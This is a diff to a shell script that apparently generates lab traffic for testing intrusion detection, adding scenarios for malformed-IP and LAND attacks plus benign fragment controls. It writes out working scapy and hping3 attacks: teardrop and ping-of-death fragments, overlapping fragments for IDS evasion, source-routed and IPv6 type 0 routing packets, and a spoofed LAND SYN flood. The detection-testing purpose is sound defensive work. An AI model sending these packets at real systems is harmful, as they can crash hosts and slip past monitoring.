@@ -2714,6 +2714,79 @@ scn_nmap_after_web_fetches() {
 	inns pc nmap -sS -Pn -n -T4 --top-ports 100 "$nas" "$NET.100" "$NET.101"
 }
 
+# Session 35 (det35a): malformed IP (malformed_ip) and LAND from other
+# ports, with their benign controls.
+n6=$ULA::30
+tonas='Ether(src=mac, dst="00:11:32:00:00:30")'
+# teardrop.c's shape: a UDP datagram's first fragment (bytes 0-35) and a
+# second at offset 24 lying inside it, 20 datagrams.
+scn_teardrop_scapy() {
+	scapy evil 'for i in range(20):
+    sendp('"$tonas"'/IP(src="'$NET.66'", dst="'$nas'", id=1000+i, flags="MF", proto=17)/(raw(UDP(sport=40000, dport=53, len=36, chksum=0)) + b"\0"*28), iface="eth0")
+    sendp('"$tonas"'/IP(src="'$NET.66'", dst="'$nas'", id=1000+i, frag=3, proto=17)/(b"\0"*4), iface="eth0")
+    time.sleep(0.05)'
+}
+# scapy fragment() of ICMP echoes, the second fragment moved 8 bytes back
+# over the first (fragroute's overlap, IDS evasion), 10 echoes.
+scn_frag_overlap_icmp_scapy() {
+	scapy evil 'for i in range(10):
+    f = fragment(IP(src="'$NET.66'", dst="'$nas'", id=2000+i)/ICMP(id=7, seq=i)/(b"A"*80), fragsize=48)
+    f[1].frag = 5
+    for x in f:
+        sendp('"$tonas"'/x, iface="eth0")
+    time.sleep(0.1)'
+}
+# Ping of death: scapy fragment() of a 65,600-byte ICMP echo, twice.
+scn_ping_of_death_scapy() {
+	scapy evil 'for i in range(2):
+    for x in fragment(IP(src="'$NET.66'", dst="'$nas'", id=3000+i)/ICMP(id=9, seq=i)/(b"X"*65600)):
+        sendp('"$tonas"'/x, iface="eth0")
+    time.sleep(0.5)'
+}
+# Loose and strict source-routed echoes through the gateway, 5 each.
+scn_lsrr_ssrr_scapy() {
+	scapy evil 'for i in range(5):
+    sendp('"$tonas"'/IP(src="'$NET.66'", dst="'$nas'", options=[IPOption_LSRR(routers=["'$NET.1'"])])/ICMP(id=11, seq=i), iface="eth0")
+    sendp('"$tonas"'/IP(src="'$NET.66'", dst="'$nas'", options=[IPOption_SSRR(routers=["'$NET.1'"])])/ICMP(id=12, seq=i), iface="eth0")
+    time.sleep(0.2)'
+}
+# iputils ping -R: record route echoes (Low).
+scn_ping_record_route() { inns evil ping -q -R -c 5 -i 0.3 "$nas" || true; }
+# IPv6: echoes in two fragments whose second starts 8 bytes inside the
+# first (RFC 5722 forbids it), and echoes with a type 0 routing header.
+scn_v6_frag_overlap_scapy() {
+	scapy evil 'for i in range(10):
+    b = raw((IPv6(src="'$ULA::66'", dst="'$n6'")/ICMPv6EchoRequest(id=13, seq=i, data=b"A"*56))[ICMPv6EchoRequest])
+    sendp('"$tonas"'/IPv6(src="'$ULA::66'", dst="'$n6'")/IPv6ExtHdrFragment(nh=58, id=4000+i, m=1, offset=0)/Raw(b[:48]), iface="eth0")
+    sendp('"$tonas"'/IPv6(src="'$ULA::66'", dst="'$n6'")/IPv6ExtHdrFragment(nh=58, id=4000+i, m=0, offset=5)/Raw(b[40:]), iface="eth0")
+    time.sleep(0.1)'
+}
+scn_v6_rh0_scapy() {
+	scapy evil 'for i in range(5):
+    sendp('"$tonas"'/IPv6(src="'$ULA::66'", dst="'$n6'")/IPv6ExtHdrRouting(type=0, addresses=["'$ULA::1'"])/ICMPv6EchoRequest(id=14, seq=i), iface="eth0")
+    time.sleep(0.2)'
+}
+# LAND from changing source ports: hping3 -a NAS -S to the NAS's port 80,
+# each SYN from the next source port.
+scn_hping_land_ports() { inns evil hping3 -q -S -a "$nas" -p 80 -c 200 -i u5000 "$nas" || true; }
+# Benign: pings of 3000 bytes over IPv4 and IPv6 (two and three fragments),
+# 8000-byte UDP datagrams (NFS over UDP's shape), an IGMP join (router
+# alert option) and an MLD one (hop-by-hop router alert). GRE (the lab
+# kernel has no gre module) and path MTU are not staged.
+scn_benign_fragments() {
+	inns pc ping -q -c 5 -i 0.3 -s 3000 "$nas" || true
+	inns pc ping -6 -q -c 5 -i 0.3 -s 3000 "$n6" || true
+	inns pc "$py" -c 'import socket, struct, time
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+for i in range(20):
+    s.sendto(bytes(8000), ("'$nas'", 2049)); time.sleep(0.05)
+m = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+m.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, struct.pack("4s4s", socket.inet_aton("239.1.2.3"), socket.inet_aton("'$NET.10'")))
+m6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+m6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, socket.inet_pton(socket.AF_INET6, "ff05::1:3") + struct.pack("@I", socket.if_nametoindex("eth0")))
+time.sleep(2)'
+}
+
 all=$(declare -F | awk '{print $3}' | grep '^scn_' | sed 's/^scn_//')
 for s in ${@:-$all}; do
 	record "$s" "scn_$s"
